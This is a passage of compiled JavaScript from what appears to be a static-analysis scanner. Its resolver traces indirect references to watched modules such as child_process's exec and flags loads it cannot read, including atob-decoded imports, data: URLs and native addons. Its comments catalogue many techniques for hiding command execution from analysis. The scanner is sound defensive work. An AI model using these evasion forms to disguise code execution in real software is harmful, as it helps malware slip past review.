    const fn = type === "call_expression" ? node.childForFieldName("function")?.text : void 0;
    if (fn !== void 0 && PROTOTYPE_OF.test(fn) && this.readsByName(node.childForFieldName("function"), ...PROTOTYPE_READS)) {
      const [of2] = namedChildrenOf(node);
      return of2 && this.prototypeKey(of2, depth);
    }
    if (type === "arguments" || fn !== void 0 && PRIVATE_READ.test(fn)) {
      const args2 = namedChildrenOf(node);
      const map = args2[1];
      if (type === "arguments" && node.parent && this.readsByName(node.parent.childForFieldName("function"), SET_PROTOTYPE)) {
        const owner = this.slotKey(args2[0], depth + 1);
        return owner && `${owner}.__proto__`;
      }
      const property = type === "arguments" && map?.type === "string" ? this.constants.stringOf(map) : void 0;
      if (property !== void 0) {
        const owner = this.slotKey(args2[0], depth + 1);
        return owner && /^[\w$]+$/.test(property) ? `${owner}.${property}` : void 0;
      }
      const receiver = map?.type === "identifier" ? args2[0] : void 0;
      const base2 = receiver ? this.slotKey(receiver, depth + 1) : void 0;
      return base2 && `${base2}.#${map.text}`;
    }
    const object = node.childForFieldName("object");
    const base = object && (type === "member_expression" || type === "subscript_expression") ? this.slotKey(object, depth + 1) : void 0;
    if (!base) return void 0;
    const key = type === "member_expression" ? node.childForFieldName("property")?.text : this.constants.stringOf(node.childForFieldName("index"));
    return key !== void 0 && (type === "member_expression" ? /^#?[\w$]+$/ : /^[\w$]+$/).test(key) ? `${base}.${key}` : void 0;
  }
  /**
   * The key a property name or a subscript's index names, when the file fixes it: a name or string (`run`, `"http:"`),
   * a string constant (Constants), a number (`0`, `-1`, `0x1`: the property `String(n)` it is); undefined for anything else.
   */
  propertyKey(node) {
    switch (node.type) {
      case "property_identifier":
      case "shorthand_property_identifier":
        return node.text;
      case "computed_property_name": {
        const inner = node.namedChild(0);
        return inner ? this.propertyKey(inner) : void 0;
      }
      case "number":
      case "unary_expression": {
        const number = Number(node.text.replace(/[\s_]/g, ""));
        return Number.isNaN(number) ? void 0 : String(number);
      }
      default:
        return this.constants.stringOf(node);
    }
  }
  child(node, field, depth) {
    const child = node.childForFieldName(field);
    return child ? this.resolve(child, child.text, depth + 1) : void 0;
  }
  /** Does a specifier name a project file (relative, or a tsconfig alias no rule watches)? */
  projectSpecifier(specifier, module2) {
    return specifier.startsWith(".") || this.project !== void 0 && !this.filter.relevant(module2) && this.project.resolves(specifier);
  }
  /** The project specifier of `require("./shell")` (require not shadowed) or `import("./shell")`, awaited or not, else undefined. */
  projectRequire(node) {
    if (!this.project) return void 0;
    while (node.type === "await_expression" || node.type === "parenthesized_expression") {
      const inner = node.namedChild(0);
      if (!inner) return void 0;
      node = inner;
    }
    if (node.type !== "call_expression") return void 0;
    const fn = node.childForFieldName("function");
    const args2 = namedChildrenOf(node);
    const wrapped = fn && (NAMESPACE_INTEROP.test(fn.text) || DEFAULT_INTEROP.test(fn.text)) ? args2[0] : void 0;
    if (wrapped) return wrapped.type === "call_expression" && args2.length <= MAX_INTEROP_ARGUMENTS ? this.projectRequire(wrapped) : void 0;
    const loads2 = fn?.type === "import" || fn?.type === "identifier" && fn.text === "require" && !this.bindings.declared("require", fn);
    if (!loads2 || args2.length !== 1) return void 0;
    const specifier = this.constants.stringOf(args2[0]);
    return specifier !== void 0 && this.projectSpecifier(specifier, normalModule(specifier)) ? specifier : void 0;
  }
  /** What a project module offers (for a namespace or a destructuring of `require("./shell")`). */
  projectExports(specifier, loader) {
    const exports2 = this.project?.exportsOf(specifier) ?? {};
    const fn = loader?.type === "call_expression" ? loader.childForFieldName("function") : null;
    return fn && DEFAULT_INTEROP.test(fn.text) ? Object.fromEntries(Object.entries(exports2).filter(([name2]) => name2 === DEFAULT || name2.startsWith(`${DEFAULT}.`))) : exports2;
  }
  /**
   * Which argument names the module when `fn` loads one by name, else undefined: `require` (not shadowed), a
   * `require` made by `createRequire` (`createRequire(url)(m)`, `const r = createRequire(url)` \u2026 `r(m)`, an ES
   * module's `const require = createRequire(import.meta.url)`), `import()`, `module.require`, the other LOADER_PATHS
   * (`process.getBuiltinModule`, `process.mainModule.require`, `require("module")._load`), and any of them invoked through
   * `.call(this, m)`; `listed`: the argument is an array holding the name (`require.apply(this, [m])`, `Reflect.apply(require, this, [m])`).
   */
  loadArgument(fn, depth) {
    const at = this.loadPosition(fn, depth);
    if (at !== void 0) return { at, listed: false };
    const text = fn.text;
    const invoked = INVOKED_END.test(text) && INVOKED.test(text.replace(/\s+/g, "")) ? invokedThrough(fn) : void 0;
    if (invoked && this.loadPosition(invoked, depth) === 0) return { at: 1, listed: text.endsWith("apply") };
    const applied = this.readsByName(fn, "Reflect.apply") ? namedChildrenOf(fn.parent)[0] : void 0;
    return applied && this.loadPosition(applied, depth) === 0 ? { at: 2, listed: true } : void 0;
  }
  loadPosition(fn, depth) {
    const own = (name2) => !this.bindings.declared(name2, fn);
    const type = fn.type;
    if (type === "import") return 0;
    if (type === "identifier" && fn.text === "require" && own("require")) return 0;
    if (type === "member_expression") {
      const raw = fn.text;
      if (!LOADER_MEMBERS.has(raw.slice(raw.lastIndexOf(".") + 1).replace(/\s+/g, ""))) return void 0;
      const text = raw.replace(/\s+/g, "");
      if (MODULE_OBJECT_LOADER.test(text) && own(text.slice(0, text.indexOf(".")))) return 0;
    }
    return LOADER_CALLEES.has(type) && loads(this.resolve(fn, fn.text, depth + 1)) ? 0 : void 0;
  }
  /**
   * May the object whose `require` `member` reads be a CommonJS module object: reached from CommonJS's own `module` or
   * `require` (not a parameter or local of that name), from no name at all (`new (\u2026)(\u2026)`, a call's result), or from a
   * name holding the module builtin or an instance of it (`const m = new Module(\u2026)`).
   */
  moduleObjectAt(member, depth) {
    let root = member.childForFieldName("object");
    while (root && (root.type === "member_expression" || root.type === "subscript_expression")) root = root.childForFieldName("object");
    if (root?.type !== "identifier") return root !== null && root !== void 0 && root.type !== "this";
    if (!this.bindings.declared(root.text, member)) return root.text === "module" || root.text === "require";
    const held = this.resolveAt(root, root.text, depth + 1);
    return held?.module === GLOBAL && held.members[0] === MODULE_BUILTIN;
  }
  /**
   * Which of the CommonJS loader's own tables `node` is, if one: its table of file kinds (`require.extensions`, the module
   * builtin's `_extensions`) or its module cache (`require.cache`, `_cache`), CommonJS's `require` not shadowed.
   */
  loaderState(node) {
    if (node.type !== "member_expression") return void 0;
    const property = node.childForFieldName("property")?.text;
    const object = node.childForFieldName("object");
    if (!object) return void 0;
    if ((property === "extensions" || property === "cache") && object.type === "identifier" && object.text === "require") return this.bindings.declared("require", node) ? void 0 : property;
    if (property !== "_extensions" && property !== "_cache") return void 0;
    const key = globalKey(this.resolve(object, object.text));
    return key === MODULE_BUILTIN ? property === "_extensions" ? "extensions" : "cache" : void 0;
  }
  /** Is `fn` the built-in `Object.x`/`Reflect.x` (one of `names`), not shadowed? */
  readsByName(fn, ...names) {
    if (fn.type !== "member_expression") return false;
    const raw = fn.text;
    const head = identifierAt(raw, 0);
    if (head === void 0 || !names.some((name2) => name2.startsWith(head) && name2[head.length] === ".")) return false;
    const text = raw.replace(/\s+/g, "");
    return names.includes(text) && !this.bindings.declared(text.split(".")[0], fn);
  }
  /**
   * `m.set("run", v)`'s callee `m.set`: the entry's slot, `m.run` (read back by `m.get("run")`, elementRead); under a key
   * not fixed here (`w.set(o, v)`: a WeakMap's key is an object, never a constant), `m.[]` (ANY_ENTRY), which a `get` under any key may read.
   */
  mapEntrySlot(member) {
    const object = member.childForFieldName("object");
    const [keyNode] = namedChildrenOf(member.parent);
    const owner = object?.type === "identifier" ? object.text : void 0;
    const key = keyNode && this.constants.stringOf(keyNode);
    return owner === void 0 ? void 0 : `${owner}.${key !== void 0 && /^[\w$]+$/.test(key) ? key : ANY_ENTRY}`;
  }
  /**
   * What an element of a collection holds when it holds watched values (the first that resolves: any may be the one
   * read): an array written in place or held at the module's top (`[cp]`, `mods`: Bindings.picked), `Object.values(cp)`
   * (each a member, chosen at run time), a Set's elements and a Map's values made in place (`new Set([cp.exec])`),
   * what a promise resolves to (`Promise.resolve(cp)`), and what a filter or copy of one keeps (`.filter(\u2026)`, `.slice()`).
   * `pairs`: the value of each `[key, value]` entry instead (`Object.entries(cp)`, a Map's iteration).
   */
  elementOf(collection, pairs = false, depth = 0) {
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    const node = unwrap(collection);
    const type = node.type;
    if (type === "array") return pairs ? this.pairsIn(node, depth)[0]?.[1] : this.firstResolved(arrayElements(node), depth);
    if (type === "identifier") return this.bindings.picked(node.text, node, void 0) ?? this.heldEntry(node, void 0);
    if (type === "new_expression") {
      const entries = this.collectionEntries(node, depth);
      return entries && (pairs === entries.pairs || !entries.pairs) ? entries.values[0]?.[1] : void 0;
    }
    if (type !== "call_expression") return void 0;
    const fn = node.childForFieldName("function");
    const fnType = fn?.type;
    if (fnType === "identifier" && !pairs) {
      const generator = this.bindings.fileScoped(fn.text, fn) ? (this.functions ??= topLevelFunctions(programOf(fn))).get(fn.text) : void 0;
      return generator && this.yielded(generator, depth);
    }
    if (fnType === "subscript_expression" && fn.childForFieldName("index")?.text.replace(/\s+/g, "") === ITERATOR) {
      const object2 = fn.childForFieldName("object");
      return object2 ? this.elementOf(object2, pairs, depth + 1) : void 0;
    }
    if (!fn || fnType !== "member_expression") return void 0;
    const [first] = namedChildrenOf(node);
    if (this.readsByName(fn, "Array.from")) return first && !pairs ? this.elementOf(first, false, depth + 1) : void 0;
    if (this.readsByName(fn, "Object.values", "Object.entries", "Promise.resolve")) {
      const method2 = fn.childForFieldName("property").text;
      if (method2 === "entries" !== pairs) return void 0;
      const entry = method2 !== "resolve" && first?.type === "object" ? literalEntries(first, this, this.bindings)[0] : void 0;
      if (entry) return through(entry[1], node);
      const base = first && this.resolve(first, first.text, depth + 1);
      return base && through(method2 === "resolve" ? base : extend(base, ANY), node);
    }
    const object = fn.childForFieldName("object");
    const method = fn.childForFieldName("property")?.text ?? "";
    if ((method === "map" || method === "flatMap") && !pairs) {
      const callback = first?.type === "identifier" ? this.bindings.fileScoped(first.text, first) ? (this.functions ??= topLevelFunctions(programOf(first))).get(first.text) : void 0 : first;
      if (!callback || !object) return void 0;
      const parameter = firstParameter(unwrap(callback));
      for (const returned of returnedBy(callback)) {
        const values = method === "flatMap" && returned.type === "array" ? arrayElements(returned) : [returned];
        for (const value of values) {
          const path2 = value && value !== HOLE && value.type !== "spread_element" ? this.callbackReturn(value, [[parameter, object]], depth) : void 0;
          if (path2) return through(path2, node);
        }
      }
      const body2 = unwrap(callback).childForFieldName("body");
      if (body2?.type !== "statement_block" || parameter?.type !== "identifier") return void 0;
      const text = body2.text;
      const element = someIdentifierIn(text, 0, text.length, (name2) => name2 === parameter.text) ? this.elementOf(object, false, depth + 1) : void 0;
      return element && through(element.members.length === 0 && !element.properties ? extend(element, ANY) : element, node);
    }
    if (method === "values" || method === "entries" && pairs) return object && (method === "values" || object.type !== "array") ? this.elementOf(object, method === "entries", depth + 1) : void 0;
    return object && SUBSETS.has(method) ? this.elementOf(object, pairs, depth + 1) : void 0;
  }
  /**
   * What a call of a generator function yields: the first `yield`ed value in its body that resolves (`yield* c`: an
   * element of `c`). A generator nested in it is read as its own (a `yield` there may be the one read).
   */
  yielded(generator, depth = 0) {
    if (generator.type !== "generator_function_declaration" && generator.type !== "generator_function") return void 0;
    if (!this.resolving) return this.session(() => this.yielded(generator, depth));
    if (this.yields.has(generator.id)) return this.yields.get(generator.id);
    this.yields.set(generator.id, void 0);
    for (const yielded of yieldsIn(generator)) {
      const value = yielded.namedChild(0);
      const delegated = yielded.child(1)?.type === "*";
      const path2 = !value ? void 0 : delegated ? this.elementOf(value, false, depth + 1) : this.resolve(value, value.text, depth + 1);
      if (path2) {
        const found = through(path2, yielded);
        this.yields.set(generator.id, found);
        return found;
      }
    }
    return void 0;
  }
  /**
   * What a callback's returned `value` is, read before its parameters are bound (`const f = [cp].map(\u2026)[0]` comes first):
   * a member of a parameter given an element of `collection` (`(m) => m.exec`), or of a value given (`[parameter, value]`
   * with `value` not a collection: reduce's initial value), else what `value` resolves to.
   */
  callbackReturn(value, given2, depth) {
    const chain = this.memberChain(value, depth);
    for (const [parameter, source, whole] of chain ? given2 : []) {
      if (!parameter || !source) continue;
      const pair = parameter.type === "array_pattern" && !whole ? elementName(arrayElements(parameter)[1] ?? null) : void 0;
      const key = parameter.type === "object_pattern" ? destructured(parameter, (computed) => this.propertyKey(computed), true).find(([, local]) => local.type !== "object_pattern" && local.text === chain[0]) : void 0;
      if (!key && (parameter.type !== "identifier" || chain[0] !== parameter.text) && (!pair || chain[0] !== pair.text)) continue;
      const held = whole ? this.resolve(source, source.text, depth + 1) : this.elementOf(source, pair !== void 0, depth + 1);
      return held && extend(held, ...key ? [key[0] ?? ANY] : [], ...chain.slice(1));
    }
    return this.resolve(value, value.text, depth + 1);
  }
  /**
   * The names a value reads from its first name (`m.exec`, `m["exec"]` with a key the file fixes, `(0, m.exec)`, `m.exec.bind(m)`,
   * `m?.exec`): `["m", "exec"]`; undefined for anything else.
   */
  memberChain(value, depth) {
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    const node = unwrap(value);
    const type = node.type;
    if (type === "identifier") return [node.text];
    if (type === "non_null_expression" || type === "as_expression" || type === "satisfies_expression" || type === "instantiation_expression") {
      const inner = node.namedChild(0);
      return inner ? this.memberChain(inner, depth + 1) : void 0;
    }
    const fn = type === "call_expression" ? node.childForFieldName("function") : null;
    if (fn) return fn.type === "member_expression" && fn.childForFieldName("property")?.text === "bind" ? this.memberChain(fn.childForFieldName("object"), depth + 1) : void 0;
    if (type !== "member_expression" && type !== "subscript_expression") return void 0;
    const object = node.childForFieldName("object");
    const key = type === "member_expression" ? node.childForFieldName("property")?.text : this.constants.stringOf(node.childForFieldName("index"));
    const base = object && key !== void 0 ? this.memberChain(object, depth + 1) : void 0;
    return base && [...base, key];
  }
  /** `[cp].reduce((a, m) => m.exec, init)` (or `reduceRight`): what the callback returns, its accumulator the initial value given (else an element), its second parameter an element. */
  reduced(call2, collection, depth) {
    const [callback, initial] = namedChildrenOf(call2);
    const returned = callback && returnedInPlace(callback);
    const fn = callback && unwrap(callback);
    if (!returned) return void 0;
    const [accumulator, element] = parametersOf(fn);
    const path2 = this.callbackReturn(returned, [[element, collection], initial ? [accumulator, initial, true] : [accumulator, collection]], depth);
    return path2 && through(path2, call2);
  }
  /** What a literal or collection a name of a function holds (heldLiteral) gives under `key` (undefined: a key not fixed here, its first watched value); nothing for another name. */
  heldEntry(name2, key) {
    const held = this.bindings.lookup(name2.text, name2);
    const entry = held?.properties && Object.hasOwn(held.properties, ANY_ENTRY) ? entryUnder(held, key) : void 0;
    return entry?.module === NOTHING ? void 0 : entry;
  }
  /** The first of `values` that resolves, reached through it (of a spread, `...m.values()`, its first element that does). */
  firstResolved(values, depth) {
    for (const value of values) {
      if (!value || value === HOLE) continue;
      const spread = value.type === "spread_element" ? value.namedChild(0) : void 0;
      if (spread === null) continue;
      const path2 = spread ? this.elementOf(spread, false, depth + 1) : this.resolve(value, value.text, depth + 1);
      if (path2) return through(path2, value);
    }
    return void 0;
  }
  /**
   * The watched values a collection made in place holds, by key where a constant fixes it: a Map's or WeakMap's values
   * (`new Map([["run", cp.exec]])`, `pairs`), a Set's or WeakSet's elements (`new Set([cp.exec])`), and what
   * `Promise.resolve(cp)` resolves to. Undefined for anything else.
   */
  collectionEntries(made, depth = 0) {
    const type = made.type;
    const constructor = type === "new_expression" ? made.childForFieldName("constructor") : null;
    const kind = constructor?.type === "identifier" ? constructor.text : type === "call_expression" && this.readsByName(made.childForFieldName("function"), "Promise.resolve") ? PROMISE : void 0;
    if (kind === void 0 || !COLLECTIONS.has(kind) || constructor && this.bindings.declared(kind, constructor)) return void 0;
    const [given2] = namedChildrenOf(made);
    if (kind === PROMISE) {
      const path2 = given2 && this.resolve(given2, given2.text, depth + 1);
      return { values: path2 ? [[void 0, through(path2, given2)]] : [], pairs: false };
    }
    const pairs = kind === "Map" || kind === "WeakMap";
    return { values: given2?.type === "array" ? this.pairsIn(given2, depth, pairs) : [], pairs };
  }
  /** The watched values of an array written in place, each `[key, value]` pair's (by the key a constant fixes) or, not `pairs`, each element's. */
  pairsIn(array, depth, pairs = true) {
    const values = [];
    for (const element of arrayElements(array)) {
      if (!element || element === HOLE) continue;
      const [key, value] = pairs ? element.type === "array" ? [arrayElement(element, 0), arrayElement(element, 1)] : [] : [void 0, element];
      const path2 = value && value.type !== "spread_element" ? this.resolve(value, value.text, depth + 1) : void 0;
      if (path2) values.push([key && this.constants.stringOf(key), through(path2, value)]);
    }
    return values;
  }
  /**
   * An element read of a collection (`Object.values(cp)[i]`, `.find(\u2026)`, `.at(i)`), or the value half of an entry so read
   * (`Object.entries(cp).find(\u2026)[1]`), or a Map's value (`new Map([["run", cp.exec]]).get("run")`, `m.get("run")` of a
   * Map held at the module's top, or set by `m.set("run", cp.exec)`).
   */
  elementRead(node, depth) {
    if (node.type === "subscript_expression") {
      const object2 = node.childForFieldName("object");
      const index = node.childForFieldName("index");
      if (!object2 || !index) return void 0;
      const read2 = elementReadOf(object2);
      if (read2) return this.propertyKey(index) === "1" ? this.elementOf(read2, true, depth + 1) : void 0;
      return object2.type === "call_expression" ? this.elementOf(object2, false, depth + 1) : void 0;
    }
    const read = elementReadOf(node);
    if (read) return this.elementOf(read, false, depth + 1);
    const fn = node.childForFieldName("function");
    const method = fn?.type === "member_expression" ? fn.childForFieldName("property")?.text : void 0;
    if (method !== void 0 && REDUCERS.has(method)) return this.reduced(node, fn.childForFieldName("object"), depth);
    const object = fn?.type === "member_expression" && fn.childForFieldName("property")?.text === "get" ? unwrap(fn.childForFieldName("object")) : void 0;
    if (!object) return void 0;
    const [keyNode] = namedChildrenOf(node);
    const key = keyNode && this.constants.stringOf(keyNode);
    if (object.type === "identifier") return this.bindings.picked(object.text, object, key) ?? (key !== void 0 ? this.bindings.slotPath([object.text, key]) : void 0) ?? this.heldEntry(object, key) ?? this.bindings.slotPath([object.text, ANY_ENTRY]);
    const slot = object.type === "member_expression" && this.bindings.slotRoots.has(identifierAt(object.text, 0) ?? "") ? this.slotKey(object)?.split(".") : void 0;
    const inSlot = slot && ((key !== void 0 ? this.bindings.slotPath([...slot, key]) : this.bindings.slotPath([...slot, EVERY_KEY])) ?? this.bindings.slotPath([...slot, ANY_ENTRY]));
    if (inSlot) return inSlot;
    const entries = object.type === "new_expression" ? this.collectionEntries(object, depth) : void 0;
    const members = entries?.pairs && entries.values.length === 0 ? this.resolve(object, object.text, depth + 1) : void 0;
    if (members) return entryUnder(members, key);
    return entries?.pairs ? key === void 0 ? entries.values[0]?.[1] : entries.values.find(([k]) => k === key)?.[1] : void 0;
  }
  /**
   * `Object.fromEntries(entries)`: a copy of a module's members (`Object.entries(cp)`, or some: `.filter(\u2026)`, or each mapped
   * to itself, `.map(([k, v]) => [k, v])`, also in a Map, `new Map(Object.entries(cp))`), or an object of the pairs written
   * in place (`[["run", cp.exec]]`, `new Map([["run", cp.exec]])`), as the literal `{ run: cp.exec }` is.
   */
  rebuilt(entries, call2, depth) {
    let given2 = entries && unwrap(entries);
    if (given2?.type === "new_expression") {
      const made = this.collectionEntries(given2, depth);
      if (!made?.pairs) return void 0;
      if (made.values.length > 0) return heldLiteral(made.values, call2);
      given2 = namedChildrenOf(given2)[0];
    }
    if (given2?.type === "array") return heldLiteral(this.pairsIn(given2, depth), call2);
    const copied = this.entriesOf(given2);
    return copied && this.entriesObject(copied, call2, false, depth);
  }
  /**
   * The object of `Object.entries(object)`, or of some of its entries (`.filter(\u2026)`, SUBSETS, or `.map(([k, v]) => [k, v])`);
   * `renamed`: some mapped to another key (`.map(([k, v]) => ["x" + k, v])`). Undefined for anything else.
   */
  entriesOf(entries) {
    let renamed = false;
    for (let node = entries && unwrap(entries), depth = 0; node?.type === "call_expression" && depth <= MAX_RESOLVE_DEPTH; depth++) {
      const fn = node.childForFieldName("function");
      if (!fn || fn.type !== "member_expression") return void 0;
      if (this.readsByName(fn, "Object.entries")) {
        const object2 = namedChildrenOf(node)[0];
        return object2 && { object: object2, renamed };
      }
      const object = fn.childForFieldName("object");
      const method = fn.childForFieldName("property")?.text ?? "";
      const mapped = method === "map" ? entryMapped(namedChildrenOf(node)[0]) : void 0;
      if (mapped === "renamed") renamed = true;
      node = object && (SUBSETS.has(method) || mapped) ? unwrap(object) : void 0;
    }
    return void 0;
  }
  /**
   * What an object made of a module's entries (`copied`, entriesOf) holds: the module's members (`base`, a Map's under
   * `get`, PROTO), or, the keys renamed, any member under every key (EVERY_KEY: the key the file does not fix, as `cp[k]`;
   * a Map's: under no key fixed, ANY_ENTRY, which `get` reads, entryUnder \u2014 its own methods are no entries).
   */
  entriesObject(copied, site, map, depth) {
    const base = this.resolve(copied.object, copied.object.text, depth + 1);
    if (!base) return void 0;
    const any = extend(base, ANY);
    if (copied.renamed) return through({ module: OBJECT, members: [], properties: map ? { [ANY_ENTRY]: any } : { [EVERY_KEY]: any, [ANY_ENTRY]: any } }, site);
    return through(map ? { module: OBJECT, members: [], properties: { [PROTO]: base, [ANY_ENTRY]: any } } : base, site);
  }
  /** The member `m` of `f(object, "m")` (`Reflect.get`, `Object.getOwnPropertyDescriptor`): read by name, as `object["m"]` is. */
  memberNamedIn(call2, depth) {
    const [object, key] = namedChildrenOf(call2);
    const base = object && this.resolve(object, object.text, depth + 1);
    const member = key && this.constants.stringOf(key);
    return base && member !== void 0 ? extend(base, member) : void 0;
  }
  /**
   * Why the call of `fn` (its `function`) loads code the scan cannot read, if it does: a module by a name the scan cannot
   * read (`require(n)`, `import(atob(\u2026))`, `process.getBuiltinModule(x)`), code in a `data:` URL (UNREAD_LOAD), a native
   * addon (NATIVE_ADDON: `require("./build/Release/x.node")`). A name that starts as a path (`` `./plugins/${p}` ``,
   * `"./" + f`, `path.join(\u2026)`, `__dirname`, `new URL(\u2026)`) names a project file, which is judged on its own, and is not one.
   */
  unreadLoad(fn) {
    const load = this.loadArgument(unwrap(fn), 0);
    if (!load) return void 0;
    const given2 = namedChildrenOf(fn.parent)[load.at];
    if (!given2 || load.listed && given2.type !== "array") return void 0;
    const name2 = load.listed ? namedChildrenOf(given2)[0] : given2;
    if (!name2) return void 0;
    const specifier = this.constants.stringOf(name2);
    if (DATA_URL.test(specifier ?? name2.text)) return UNREAD_LOAD;
    if (specifier !== void 0) return namesNativeAddon(specifier) ? NATIVE_ADDON : void 0;
    const literal = name2.type === "string" || name2.type === "template_string" && !name2.namedChildren.some((part) => part?.type === "template_substitution");
    if (literal || !PATH_NAME.test(name2.text)) return literal ? void 0 : UNREAD_LOAD;
    return namesNativeAddon(name2.text) ? NATIVE_ADDON : void 0;
  }
  /**
   * The project file a loader's call names by a path relative to this file's folder (`./assets/x.txt`): a literal given a
   * made `require` (`createRequire(import.meta.url)("./x.txt")`; its base is taken as this file), or a path built from
   * the file's place (`path.join(__dirname, "x.txt")`, `new URL("./x", import.meta.url)`: javascript-loads.ts).
   */
  loadedPath(fn, folder) {
    const load = this.loadArgument(unwrap(fn), 0);
    if (!load) return void 0;
    const given2 = namedChildrenOf(fn.parent)[load.at];
    const name2 = load.listed ? given2?.type === "array" ? namedChildrenOf(given2)[0] : void 0 : given2;
    if (!name2) return void 0;
    const specifier = this.constants.stringOf(name2);
    if (specifier !== void 0) return /^\.\.?\//.test(specifier) ? specifier : void 0;
    return folder.projectPath(name2);
  }
  /** `require('m')` and `import('m')` with a literal specifier (require not shadowed); `promisify(f)` and `await (f)` are `f`. */
  moduleOfCall(node, depth) {
    const fn = node.childForFieldName("function");
    if (!fn) return void 0;
    const type = fn.type;
    const text = fn.text;
    if (type === "member_expression" && fn.childForFieldName("property")?.text === "bind") {
      const object2 = fn.childForFieldName("object");
      return object2 ? this.resolve(object2, object2.text, depth + 1) : void 0;
    }
    if (this.readsByName(fn, "Reflect.get")) return this.memberNamedIn(node, depth);
    if (this.readsByName(fn, ...DESCRIPTOR_READS)) {
      const member = this.memberNamedIn(node, depth);
      return member && { module: OBJECT, members: [], properties: { value: member } };
    }
    if (this.readsByName(fn, "Object.getOwnPropertyDescriptors")) {
      const [object2] = namedChildrenOf(node);
      const base = object2 && this.resolve(object2, object2.text, depth + 1);
      return base && through({ module: OBJECT, members: [], properties: { [EACH_DESCRIPTOR]: base } }, node);
    }
    if (this.readsByName(fn, FROM_ENTRIES)) return this.rebuilt(namedChildrenOf(node)[0], node, depth);
    if (this.readsByName(fn, DEFINE_PROPERTY)) {
      const [, key, descriptor] = namedChildrenOf(node);
      const value = descriptor?.type === "object" ? describedValue(descriptor) : null;
      const path2 = value && this.resolve(value, value.text, depth + 1);
      if (path2) return through({ module: OBJECT, members: [], properties: { [(key && this.constants.stringOf(key)) ?? ANY_ENTRY]: path2 } }, node);
    }
    const wrapped = this.readsByName(fn, ...OBJECT_WRAPPERS) ? namedChildrenOf(node).slice(0, 1) : this.readsByName(fn, "Object.assign") ? namedChildrenOf(node) : [];
    for (const arg of wrapped) {
      const path2 = this.resolve(arg, arg.text, depth + 1);
      if (path2) return path2;
    }
    if (PASS_THROUGH.test(text)) {
      const args3 = namedChildrenOf(node);
      const only = args3.length === 1 || args3.length <= MAX_INTEROP_ARGUMENTS && INTEROP_CALL.test(text + "(") ? args3[0] : void 0;
      return only ? this.resolve(only, only.text, depth + 1) : void 0;
    }
    if (text.endsWith("createRequire") && CREATE_REQUIRE.test(text.replace(/\s+/g, "")) || type === "identifier" && globalKey(this.resolve(fn, text, depth + 1)) === CREATE_REQUIRE_PATH) return { module: GLOBAL, members: [...MADE_REQUIRE] };
    const load = this.loadArgument(unwrap(fn), depth);
    if (load === void 0) return void 0;
    const args2 = namedChildrenOf(node);
    const given2 = args2.length === load.at + 1 ? args2[load.at] : void 0;
    const listed = load.listed && given2?.type === "array" ? namedChildrenOf(given2) : void 0;
    const first = listed ? listed.length === 1 ? listed[0] : void 0 : load.listed ? void 0 : given2;
    const specifier = first ? this.constants.stringOf(first) : void 0;
    if (specifier === void 0) return void 0;
    const module2 = normalModule(specifier);
    const object = LOADER_MODULES.get(module2);
    if (object) return object;
    if (this.projectSpecifier(specifier, module2)) {
      const path2 = this.project?.lookup(specifier, "default");
      return path2 && through(path2, node);
    }
    if (!this.filter.relevant(module2)) return void 0;
    return through({ module: module2, members: [] }, node, first.type === "identifier");
  }
};
function readDeclaration(source, nameNode, value, known, bindings) {
  const head = identifierAt(source, value.startIndex);
  const simpleName = identifierAt(source, nameNode.startIndex);
  const quote = source[value.startIndex];
  const constant = simpleName !== void 0 && mayBeString(source, value) && !/^\s*[.[]/.test(source.slice(nameNode.startIndex + simpleName.length, nameNode.startIndex + simpleName.length + 8));
  const valueType = value.type;
  const functionValue = valueType === "arrow_function" || valueType === "function_expression";
  const collection = (head === "new" || head === "Promise") && privateHelperAt(COLLECTION_AT, source, value.startIndex);
  const thenCallback = (functionValue || valueType === "function_declaration") && simpleName !== void 0 && CALLBACK_METHODS.has(simpleName) && nameNode.parent?.type === "member_expression" && carrierMayResolve(identifierAt(source, nameNode.parent.startIndex), known);
  const loop = privateHelperAt(OF_AFTER, source, nameNode.endIndex);
  const mayBeModule = thenCallback || // `p.make = () => cp`: a function written in place that is a factory (factories.ts placedFunction).
  functionValue && bindings.returnedBy(value.startIndex) !== void 0 || loop && carrierMayResolve(head, known) || // `Object.getPrototypeOf(async function () {}).constructor`: Function (Resolver.resolve).
  source.startsWith(CONSTRUCTOR, value.endIndex - CONSTRUCTOR.length) || // `(() => {}).constructor("return this")`: the function it makes (Resolver.evaluatedValue). Its callee's start only.
  valueType === "call_expression" && CONSTRUCTOR_CALLED.test(source.slice(value.startIndex, Math.min(value.endIndex, value.startIndex + CONSTRUCTOR_CALLEE_CHARS))) || (head ? known(head) || head === "import" || head === "function" && valueType === "call_expression" || head === "util" || head === "new" || head === "class" || head === "extends" || PASS_THROUGH.test(head) || INTEROP_CALL.test(source.slice(value.startIndex, value.startIndex + 80)) || MEMBER_CREATE_REQUIRE.test(source.slice(value.startIndex, value.startIndex + 80)) || (head === "Object" || head === "Array") && privateHelperAt(OBJECT_READ_AT, source, value.startIndex) || head === "Promise" && collection || mayFallBack(source, value.startIndex, value.endIndex, known, JS_FALLBACK) : quote === "(" || quote === "<" || quote === "[" && valueType !== "array" ? parenthesizedMayBeModule(source, value, known) : quote === "{" ? valueType === "object" ? spreadsKnown(source, value, known) : parenthesizedMayBeModule(source, value, known) : source.startsWith("async", value.startIndex));
  const frozen = head === "Object" && valueType === "call_expression" && privateHelperAt(OBJECT_READ_AT, source, value.startIndex) ? frozenLiteral(value) : void 0;
  const literal = frozen ?? (loop || quote !== "{" && quote !== "[" ? void 0 : valueType === "object" || valueType === "array" ? value : valueType === "as_expression" || valueType === "satisfies_expression" ? literalIn(value) : void 0);
  const object = literal?.type === "object" ? literal : void 0;
  const nameType = literal !== void 0 || valueType === "identifier" ? nameNode.type : void 0;
  const slotTarget = nameType === "member_expression" || nameType === "subscript_expression";
  const objectTarget = object !== void 0 && (slotTarget || nameType === "default" || nameType === "identifier" && nameNode.parent?.type === "arguments") || literal?.type === "array" && slotTarget;
  const watched = literal !== void 0 && (objectTarget || nameType === "identifier") && watchedLiteral(source, literal, known);
  const held = watched && (objectTarget || moduleLevel(nameNode));
  const slots = held && (object !== void 0 || objectTarget);
  const container = held && !objectTarget;
  const local = watched && !held;
  const mayBind = mayBeModule || simpleName !== void 0 && bindings.mayResolve(simpleName);
  const exportsSlotsOf = valueType === "identifier" && (nameType === "default" || nameType === "=" || /^(?:module|exports)\b/.test(source.slice(nameNode.startIndex, nameNode.startIndex + 7)) && EXPORTS_TARGET.test(nameNode.text.replace(/\s+/g, ""))) ? value.text : void 0;
